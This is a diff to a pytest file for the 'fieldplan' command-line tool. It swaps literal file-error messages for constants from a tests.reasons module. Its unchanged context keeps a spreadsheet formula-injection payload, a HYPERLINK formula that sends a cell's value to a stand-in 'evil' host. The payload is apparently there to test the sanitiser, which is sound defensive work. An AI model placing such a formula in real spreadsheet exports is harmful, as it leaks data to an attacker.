@@ -19,6 +19,7 @@ import pytest
 from fieldplan import files, progress, tabular
 from fieldplan.errors import FileError, ValidationError
 from fieldplan.text import clean_text, for_spreadsheet
+from tests import reasons
 from tests.cli.test_cli_messages import run
 
 HYPERLINK = '=HYPERLINK("http://evil/?x="&A2,"Click")'
@@ -559,7 +560,7 @@ def test_a_full_disk_gives_one_line_and_nothing_else(hq, tmp_path: Path, capsys,
                             "--format", fmt, "-o", str(out), capsys=capsys)
     gc.collect()
     assert (code, stdout) == (1, "")
-    assert err == f"fieldplan: error: cannot write {out}: the disk is full\n"
+    assert err == f"fieldplan: error: cannot write {out}: {reasons.DISK_FULL}\n"
     assert [(u.exc_type, u.exc_value, u.object) for u in unraisable] == []
     assert sorted(p.name for p in tmp_path.iterdir() if "progress" in p.name) == []
 
@@ -590,7 +591,7 @@ def test_data_export_over_a_read_only_file_is_refused(hq, tmp_path: Path, capsys
     code, stdout, err = run("--db", str(tmp_path / "hq.sqlite3"), "data", "export",
                             "--format", "csv", "-o", str(out), capsys=capsys)
     assert (code, stdout) == (1, "")
-    assert err == f"fieldplan: error: cannot write {out}: permission denied\n"
+    assert err == f"fieldplan: error: cannot write {out}: {reasons.DENIED_WRITING}\n"
     assert out.read_bytes() == b"x\n" and stat.S_IMODE(out.stat().st_mode) == 0o444
     assert not [p for p in os.listdir(tmp_path) if p.endswith(".part")]
     out.chmod(0o644)  # made writable again: written
@@ -628,7 +629,7 @@ def test_every_writer_refuses_a_read_only_file(hq, tmp_path: Path, monkeypatch) 
     for named, write in writers:
         with pytest.raises(FileError) as info:
             write()
-        assert str(info.value) == f"cannot write {named}: permission denied"
+        assert str(info.value) == f"cannot write {named}: {reasons.DENIED_WRITING}"
     assert kept.read_bytes() == b"old" and link.is_symlink()
     assert (tmp_path / "plan.json").read_bytes() == b"{}"
     assert sorted(os.listdir(tmp_path)) == ["kept.pdf", "link.csv", "plan.json"]
@@ -690,7 +691,7 @@ def test_a_name_too_long_is_said_in_words_by_every_writer(hq, make_office,
         named = out / f"{stem}{suffix}"
         with pytest.raises(FileError) as info:
             write(named)
-        assert str(info.value) == f"cannot write {named}: the name is too long"
+        assert str(info.value) == f"cannot write {named}: {reasons.TOO_LONG}"
     assert os.listdir(out) == []
     assert hq.conn.execute("SELECT value FROM meta WHERE key = 'last_export'"
                            ).fetchone() == last_export
